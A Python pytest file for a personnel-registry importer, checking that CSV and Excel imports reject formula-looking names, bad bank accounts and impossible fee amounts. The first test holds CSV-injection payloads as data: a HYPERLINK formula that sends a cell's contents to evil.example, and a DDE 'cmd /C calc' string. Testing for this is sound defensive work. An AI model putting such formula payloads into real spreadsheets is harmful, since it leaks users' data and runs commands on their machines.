"""Issue 9 (1, 6): import rejects formula-looking names, implausible bank accounts and impossible amounts,
naming the row — on SQLite and PostgreSQL.  Each of these rows was imported unchanged before."""

from __future__ import annotations

from pathlib import Path

import polars as pl
import pytest

from jiuye.registry.importing import checks
from jiuye.rules.identifiers import bank_account_problem, luhn_check_digit, luhn_ok, person_name_problem

from .test_import import PERSON_HEADER, count, person, query, run, write_csv


def _account(i: int) -> str:
    body = f"62220202{i:010d}"
    return body + luhn_check_digit(body)


def test_formula_name_and_formula_account_are_rejected(migrated_db_url: str, tmp_path: Path,
                                                       capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    header = [*PERSON_HEADER, "银行账号"]
    good = [*person(1), _account(1)]
    bad_name = [*person(2), _account(2)]
    bad_name[1] = '"=HYPERLINK(""http://evil.example/?""&B2,""张三"")"'
    bad_account = [*person(3), "\"@SUM(1+1)*cmd|' /C calc'!A0\""]
    bad_luhn = [*person(4), "6222020200112234"]
    path = write_csv(tmp_path / "人员.csv", header, [good, bad_name, bad_account, bad_luhn])
    assert run(migrated_db_url, path) != 0
    err = capsys.readouterr().err
    assert "第3行【姓名】" in err and "第4行【银行账号】" in err and "第5行【银行账号】" in err and "校验位不对" in err
    assert count(migrated_db_url, "persons") == 0  # the whole file is refused, nothing stored
    assert run(migrated_db_url, path, "--skip-invalid") == 0
    assert query(migrated_db_url, "SELECT name, bank_account FROM persons") == [("人员1", _account(1))]


def test_an_account_typed_with_full_width_digits_or_hyphens_is_the_same_account(migrated_db_url: str,
                                                                                tmp_path: Path) -> None:
    """The import reads a bank account by the web form's rule (identifiers.normalize_bank_account_expr): full-width
    digits of a Chinese input method, spaces and hyphens between digit groups — the form accepted them and the
    import refused the same account as 'not digits'."""
    full_width = "".join(chr(0xFF10 + int(d)) for d in _account(1))
    grouped = "-".join(_account(2)[i:i + 4] for i in range(0, 19, 4))
    spaced = _account(3)[:4] + "\u3000" + _account(3)[4:]
    header = [*PERSON_HEADER, "银行账号"]
    rows = [[*person(1), full_width], [*person(2), grouped], [*person(3), spaced]]
    assert run(migrated_db_url, write_csv(tmp_path / "人员.csv", header, rows)) == 0
    stored = query(migrated_db_url, "SELECT name, bank_account FROM persons ORDER BY name")
    assert stored == [("人员1", _account(1)), ("人员2", _account(2)), ("人员3", _account(3))]


def test_xlsx_numeric_account_never_becomes_an_account(migrated_db_url: str, tmp_path: Path,
                                                       capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    import xlsxwriter

    path = tmp_path / "人员.xlsx"
    book = xlsxwriter.Workbook(str(path))
    ws = book.add_worksheet("人员")
    ws.write_row(0, 0, [*PERSON_HEADER, "银行账号"])
    for r, (i, account) in enumerate([(1, 6.222020200112233e18), (2, 6222020200112233.0)], start=1):
        for c, v in enumerate(person(i)):
            ws.write_string(r, c, v)
        ws.write_number(r, len(PERSON_HEADER), account)  # typed as a number in Excel
    book.close()
    assert run(migrated_db_url, path) != 0
    err = capsys.readouterr().err
    assert err.count("被存成了数字") == 2, err
    assert count(migrated_db_url, "persons") == 0


@pytest.mark.parametrize(
    ("fee", "why"),
    [
        ("184467440737095516.15", "超出范围"),  # ×100 wrapped to −0.01 in Int64 before
        ("6222020200112233000", "超出范围"),  # a pasted card number
        ("62220202001122330000", "超出范围"),  # 20 digits crashed the import
        ("987654321", "合理上限"),  # above the column's declared maximum
        ("-0.01", "负数"),
    ],
)
def test_impossible_money_is_rejected_naming_the_row(migrated_db_url: str, tmp_path: Path, fee: str, why: str,
                                                     capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    p = person(7)
    people = write_csv(tmp_path / "人员.csv", PERSON_HEADER, [p])
    evals = write_csv(tmp_path / "技能评价.csv", ["身份证号码", "评价等级", "评价日期", "评价费用（元）"],
                      [[p[0], "高级工", "2024-03-05", "800"], [p[0], "技师", "2024-04-05", fee]])  # fmt: skip
    assert run(migrated_db_url, people, evals) != 0
    err = capsys.readouterr().err
    assert "第3行【评价费用（元）】" in err and why in err, err
    assert count(migrated_db_url, "skill_evaluations") == 0


def test_money_parsing_never_overflows() -> None:
    frame = pl.DataFrame({"v": ["184467440737095516.15", "999999999999999.99", "0.01", "1" * 40]})
    out = frame.select(checks.parse_yuan_to_fen(pl.col("v")).alias("fen"),
                       checks.money_reason(pl.col("v"), "yuan", 50_000).alias("why"))  # fmt: skip
    assert out["fen"].to_list() == [None, 99_999_999_999_999_999, 1, None]
    assert [w is not None for w in out["why"].to_list()] == [True, True, False, True]


def test_bank_account_and_name_checks_agree_with_the_reference() -> None:
    accounts = [_account(5), "6222020200112234", "123456789012", "12345678901", "6.222020200112233e+18",
                "4111111111111111", "62220202001122330000", "@SUM(1+1)"]  # fmt: skip
    expected = [bank_account_problem(a) for a in accounts]
    got = pl.DataFrame({"a": accounts}).select(checks.PLAUSIBLE_REASONS["bank_account"](pl.col("a")).alias("r"))["r"].to_list()
    assert [g is None for g in got] == [e is None for e in expected] == [True, False, True, False, False, True,
                                                                          False, False]  # fmt: skip
    assert luhn_ok(_account(9)) and not luhn_ok(_account(9)[:-1] + str((int(_account(9)[-1]) + 1) % 10))
    names = ["张三", "阿卜杜·热合曼", "John Smith", "人员3", "=HYPERLINK(\"x\")", "+张三", "-1", "@A1", "\t张三"]
    want = [True, True, True, True, False, False, False, False, False]
    assert [person_name_problem(n) is None for n in names] == want
    assert pl.DataFrame({"n": names}).select(checks.PLAUSIBLE_REASONS["person_name"](pl.col("n")).alias("r"))["r"].is_null().to_list() == want
